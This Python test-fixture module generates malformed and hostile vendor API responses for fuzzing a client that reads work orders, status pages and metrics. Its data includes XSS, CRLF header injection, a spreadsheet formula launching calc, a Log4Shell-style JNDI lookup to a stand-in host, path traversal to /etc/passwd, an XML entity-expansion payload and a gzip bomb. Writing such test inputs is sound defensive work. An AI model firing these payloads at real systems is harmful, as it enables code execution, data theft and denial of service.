"""What a hostile vendor may put into an answer: good bodies, and everything that can be done to them.

The large ones are made once and shared: ten thousand answers weigh what their kinds weigh.
"""

from __future__ import annotations

import gzip
import json
import re
from collections.abc import Callable, Iterator
from functools import cache
from random import Random
from typing import Any

MIB = 1024 * 1024
# Stand for whose they are until an answer is made: another host's address, and a key in escapes.
ELSEWHERE, ECHO = "http://elsewhere.example", "@@ECHO@@"

RECORD = {"id": 7, "title": "Pump 3", "status": "OPEN", "updatedAt": "2026-03-02T08:59:00.000Z"}
LIST: Any = {"workOrders": [RECORD, {**RECORD, "id": 8}], "nextCursor": "c2"}
BETTER_STACK: Any = {
    "data": {"id": "1", "attributes": {"aggregate_state": "operational"}},
    "included": [
        {
            "id": "9",
            "type": "status_page_resource",
            "attributes": {"public_name": "REST API", "status": "operational"},
        },
        {
            "id": "3",
            "type": "status_report",
            "attributes": {
                "report_type": "maintenance",
                "starts_at": "2026-03-02T08:00:00Z",
                "ends_at": "2026-03-02T10:00:00Z",
                "affected_resources": [{"status_page_resource_id": "9"}],
            },
        },
    ],
}
STATUSPAGE: Any = {
    "status": {"indicator": "none"},
    "components": [{"name": "API", "status": "operational"}],
    "scheduled_maintenances": [
        {
            "status": "scheduled",
            "scheduled_for": "2026-03-02T08:00:00Z",
            "scheduled_until": "2026-03-02T10:00:00Z",
            "components": [{"name": "API"}],
        }
    ],
}
GOOD: dict[str, Any] = {
    "list": LIST,
    "numbered": {"items": [RECORD], "meta": {"next": 2, "pages": 3}},
    "error": {"error": "the key has expired"},
    "errors": {"errors": [{"error": "no such path"}]},
    "better_stack": BETTER_STACK,
    "statuspage": STATUSPAGE,
    "health": {"status": "healthy", "checks": {"db": {"status": True}}, "keyFingerprint": "0f" * 8},
    "checks": {"status": "pass", "checks": [{"name": "db", "status": "fail"}]},
    "vector": {
        "status": "success",
        "data": {
            "resultType": "vector",
            "result": [{"metric": {"consumer": "a"}, "value": [1, "2"]}],
        },
    },
    "description": {"openapi": "3.0.0", "paths": {"/workorders": {"get": {}}}},
}
METRICS = """\
# TYPE maintainx_api_requests_total counter
maintainx_api_requests_total{consumer="sync"} 120
maintainx_api_requests_total{consumer="report"} 7
maintainx_api_errors_total 3
maintainx_rate_limit_remaining 80
maintainx_api_request_duration_seconds_bucket{le="0.5"} 90
maintainx_api_request_duration_seconds_bucket{le="+Inf"} 127
"""

# Texts that do something where they are shown, stored, called or compared.
TEXTS = (
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m\x90q\x9c",
    "[bold red]all is well[/]",
    "[/]",
    "[/nope]",
    "ends in \\",
    "[link=http://elsewhere.example]here[/link]",
    "**well** <script>alert(1)</script> ![](http://elsewhere.example/x.png)",
    "\u202eevitisop eslaf\u2066",
    "\ud800",
    "a\udfff\x00b",
    "line\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
    "=cmd|' /C calc'!A0",
    "{{7*7}} ${jndi:ldap://elsewhere.example} %s%n",
    "../../../etc/passwd",
    ELSEWHERE + "/steal?cursor=2",
    "//elsewhere.example/steal",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "2026-02-30T25:61:61Z",
    "maintenance",
    "in_progress",
    "ÿ" * 300,
    "\U0001f480" * 200,
    "key=" + ECHO,
    "Bearer " + ECHO,
    ECHO,
    "",
)
VALUES: tuple[Any, ...] = (
    *TEXTS,
    None,
    True,
    False,
    0,
    -1,
    2**63,
    -(10**30),
    0.1,
    [],
    {},
    [None],
    [[[]]],
    {"": None},
    {"status": {"status": []}},
    ["x"] * 1000,
)
# As they stand in JSON, or in what claims to be.
TOKENS = (
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-1e999",
    "1e-999",
    "-0",
    "-0.0",
    "9" * 4000,
    "9" * 5000,
    "1" + "0" * 400 + ".5",
    "01",
    "+1",
    "0x10",
    "1_000",
    "'single'",
    "undefined",
    '"\\ud800"',
    '"\\u0000"',
    '"\\x41"',
    '"tab\tin it"',
    "[1,]",
    "{,}",
    "//",
)
PAGES = (
    b"<!DOCTYPE html><html><title>Log in</title><form action='http://elsewhere.example'>",
    b"\xef\xbb\xbf  <html><body>502 Bad Gateway</body></html>",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
    b"<html>" + b"<div>" * 20_000,
    b"<script>location='http://elsewhere.example'</script>",
    b"Service Unavailable\x1b[31m",
    b"retry in 99999999999999999999 minutes",
    b"please retry in 999999999 minutes; retry after 1e309 s",
    b"   ",
    b"",
)
_MARK = "@@MARK@@"


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every value in it, itself first."""
    yield path
    if isinstance(value, dict | list):
        inside = value.items() if isinstance(value, dict) else enumerate(value)
        for name, child in inside:
            yield from places(child, (*path, name))


def put(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    """A copy with another value at that place."""
    if not path:
        return new
    first, rest = path[0], path[1:]
    if isinstance(value, dict):
        return {**value, first: put(value[first], rest, new)}
    return [put(one, rest, new) if i == first else one for i, one in enumerate(value)]


def wrong_type(rng: Random, good: Any) -> bytes:
    for _ in range(rng.choice((1, 1, 1, 3))):
        good = put(good, rng.choice(list(places(good))), rng.choice(VALUES))
    return json.dumps(good).encode()


def odd_token(rng: Random, good: Any, tokens: tuple[str, ...] = TOKENS) -> bytes:
    marked = put(good, rng.choice(list(places(good))), _MARK)
    return json.dumps(marked).replace(f'"{_MARK}"', rng.choice(tokens)).encode()


def odd_key(rng: Random, good: Any) -> bytes:
    """Another name for one of its members."""
    at = [p for p in places(good) if p and isinstance(p[-1], str)]
    text = json.dumps(put(good, rng.choice(at), None))
    return re.sub(r'"\w+": null', lambda _: f"{json.dumps(rng.choice(TEXTS))}: 1", text).encode()


def twice(rng: Random, good: Any) -> bytes:
    """One of its members given a second time, before or after, in escapes or not."""
    text = json.dumps(good)
    name, at = rng.choice([(m[1], m.start()) for m in re.finditer(r'"(\w+)":', text)])
    shown = rng.choice((name, f"\\u{ord(name[0]):04x}{name[1:]}"))
    return f'{text[:at]}"{shown}": {rng.choice(("1", "[]", "null"))}, {text[at:]}'.encode()


def encoded(rng: Random, good: Any) -> bytes:
    text = json.dumps(good)
    ways: tuple[Callable[[], bytes], ...] = (
        lambda: b"\xef\xbb\xbf" + text.encode(),
        lambda: text.encode("utf-16"),
        lambda: text.encode("utf-32"),
        lambda: text.replace("e", "é").encode("latin-1"),
        lambda: text.replace("a", "\ud800").encode("utf-8", "surrogatepass"),
        lambda: text.replace('"', "\0").encode(),
        lambda: text.encode("utf-7").replace(b"{", b"+AHs-"),
        lambda: b"\xc0\xaf\xff" + text.encode(),
    )
    return rng.choice(ways)()


def cut(rng: Random, good: Any) -> bytes:
    whole = json.dumps(good).encode()
    return whole[: rng.randrange(len(whole))]


def damaged(rng: Random, good: Any) -> bytes:
    whole = bytearray(json.dumps(good).encode())
    for _ in range(rng.choice((1, 2, 20))):
        whole[rng.randrange(len(whole))] = rng.randrange(256)
    return bytes(whole)


def trailing(rng: Random, good: Any) -> bytes:
    more = (b"\n{}", b"]", b"\0", b"<!-- -->", b"\x1b[0m", b" " * 1000 + b"1")
    return json.dumps(good).encode() + rng.choice(more)


def page(rng: Random, _good: Any) -> bytes:
    return rng.choice(PAGES)


def metrics(rng: Random, _good: Any) -> bytes:
    lines = METRICS.splitlines()
    at = rng.randrange(len(lines))
    odd = json.dumps(rng.choice(TEXTS))
    swaps = (
        "maintainx_api_requests_total{consumer=" + odd + "} 9",
        f"maintainx_api_requests_total {rng.choice(TOKENS)}",
        f"maintainx_rate_limit_remaining {rng.choice(('NaN', '+Inf', '-Inf', '-0', '1e999'))}",
        f"maintainx_api_request_duration_seconds_bucket{{le={odd}}} 3",
        'maintainx_api_request_duration_seconds_bucket{le="NaN"} NaN',
        "# TYPE maintainx_api_requests_total " + odd,
        "# HELP maintainx_api_requests_total " + odd,
        "maintainx_api_requests_total{" + 'a="b",' * 600 + "} 1",
        'maintainx_api_requests_total{consumer="a",consumer="b"} 1',
        "maintainx_api_requests_total{consumer=} 1",
        "maintainx_api_requests_total{consumer='a'} 1 99999999999999999999999",
        '{"maintainx_api_requests_total",consumer="a"} 1',
        '{"maintainx_api_requests_total"} 1 # {a="b"} 1',
        "maintainx_api_requests_total{{{{",
        "maintainx_rate_limit_remaining 1 1e999",
        lines[at] + " " + lines[at],
        lines[at],
    )
    lines[at : at + rng.choice((0, 1))] = [rng.choice(swaps)]
    return "\n".join(lines).encode("utf-8", "surrogatepass")


@cache
def deep(opening: str, closed: bool) -> bytes:
    """200,000 levels of arrays, of objects or of both."""
    levels = 200_000 // (2 if opening == '[{"a":' else 1)
    closing = opening.replace('"a":', "")[::-1].translate(str.maketrans("[{", "]}"))
    return (opening * levels + ("0" + closing * levels if closed else "")).encode()


@cache
def huge(which: str, size: int) -> bytes:
    """About `size` bytes of one thing."""
    if which == "text":
        return b'{"workOrders":"' + b"a" * size + b'"}'
    if which == "keys":
        return b"{" + b",".join(b'"%x":1' % i for i in range(size // 10)) + b"}"
    if which == "records":
        one = json.dumps(RECORD).encode()
        return b'{"workOrders":[' + b",".join([one] * (size // len(one))) + b"]}"
    if which == "metrics":
        return METRICS.encode() + b"".join(b"m%x 1\n" % i for i in range(size // 9))
    if which == "label":
        return METRICS.encode() + b'maintainx_api_errors_total{a="' + b"b" * size + b'"} 1\n'
    filling = {
        "lists": b"[],",
        "objects": b'{"":0},',
        "numbers": b"1,",
        "space": b" ",
        "page": b"<p>",
    }
    inner = filling[which] * (size // len(filling[which]))
    return inner if which == "page" else b'{"workOrders":[' + inner + b"0]}"


@cache
def bomb(size: int = 64 * MIB) -> bytes:
    """A few kilobytes that are as many MiB once somebody unpacks them."""
    return gzip.compress(b"\0" * size, 9)
